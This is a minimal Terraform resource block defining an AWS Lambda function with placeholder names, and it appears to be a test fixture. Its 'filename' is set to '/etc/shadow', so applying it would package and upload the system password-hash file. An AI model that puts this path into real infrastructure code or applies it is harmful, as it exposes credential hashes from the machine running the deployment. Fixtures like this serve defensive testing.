resource "aws_lambda_function" "x" {
  function_name = "x"
  role          = "r"
  filename      = "/etc/shadow"
}
